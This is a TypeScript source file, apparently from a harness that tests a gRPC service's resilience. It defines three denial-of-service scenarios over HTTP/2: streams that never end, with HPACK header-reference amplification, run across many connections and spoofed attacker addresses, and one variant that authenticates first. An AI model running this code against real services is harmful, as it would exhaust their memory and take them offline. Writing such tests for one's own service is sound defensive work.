/** Streams that never end, each with a long list of headers that takes a byte a header on the wire. */
import {
  callHeaders,
  END_HEADERS,
  FRAME,
  http2Frame,
  keptHeader,
  NEWEST_ENTRY,
} from '../../tools/network/http2-frames.ts';
import { CHECK, callWithToken, grpcCall, HEALTH } from '../requests.ts';
import type { Attack } from '../scenario.ts';
import { ATTACKER_ADDRESSES, attackInLanes, type Lanes, streamEnds, type Wire } from '../wire.ts';

const CONNECTIONS = 120;
const CALLERS_CONNECTIONS = 8;
/** Just under the 250 that the service allows on a connection: more end it, whatever its other bounds are. */
const STREAMS = 240;
const WIDE_CONNECTIONS = 1_500;
const WIDE_STREAMS = 5;
/** As many as Node takes with those of a call; together just under 64 KiB. */
const REFERENCES = 115;
const VALUE_BYTES = 480;

/** By strangers, to Health. */
export const endlessHealth: Attack = {
  name: 'endless-health',
  title: `streams on Health that never end, each with ${REFERENCES} one-byte header references, on ${CONNECTIONS} connections`,
  kind: 'strangers',
  run: (target, tally) =>
    attackInLanes(target, tally, CONNECTIONS, (lanes, index) => {
      return endlessStreams(lanes, index, callHeaders(HEALTH), Buffer.alloc(0));
    }),
};

/** By many strangers, none of whom has many. */
export const wideHealth: Attack = {
  name: 'wide-health',
  title: `${WIDE_STREAMS} such streams on each of ${WIDE_CONNECTIONS} connections from ${ATTACKER_ADDRESSES} addresses`,
  kind: 'strangers',
  run: (target, tally) =>
    attackInLanes(target, tally, WIDE_CONNECTIONS, (lanes, index) => {
      return endlessStreams(lanes, index, callHeaders(HEALTH), Buffer.alloc(0), WIDE_STREAMS);
    }),
};

/** By a caller whose first call is a good one: its streams are bounded by their number and by what each keeps. */
export const endlessCalls: Attack = {
  name: 'endless-calls',
  title: `the same streams by a caller, on ${CALLERS_CONNECTIONS} connections`,
  kind: 'callers',
  run: (target, tally) => {
    const headers = callWithToken(CHECK, target.token);
    const first = grpcCall(1, headers, Buffer.from(target.check, 'base64'));
    return attackInLanes(target, tally, CALLERS_CONNECTIONS, (lanes, index) => {
      return endlessStreams(lanes, index, headers, first);
    });
  },
};

async function endlessStreams(
  { open, over, tally, target }: Lanes,
  index: number,
  call: Buffer,
  first: Buffer,
  streams = STREAMS,
): Promise<Wire | null> {
  const onData = streamEnds(() => {
    tally.answered += 1;
  });
  const wire = await open({ port: target.grpcPort, address: index, onData });
  if (wire === null) return null;
  await wire.write(first);
  const kept = keptHeader('x-kept', 'x'.repeat(VALUE_BYTES));
  const references = Buffer.alloc(REFERENCES, NEWEST_ENTRY);
  for (let number = 1; number <= streams && !over(); number += 1) {
    const block = Buffer.concat([call, ...(number === 1 ? [kept] : []), references]);
    if (!(await wire.write(http2Frame(FRAME.HEADERS, END_HEADERS, number * 2 + 1, block)))) break;
    tally.sent += 1;
  }
  return wire;
}
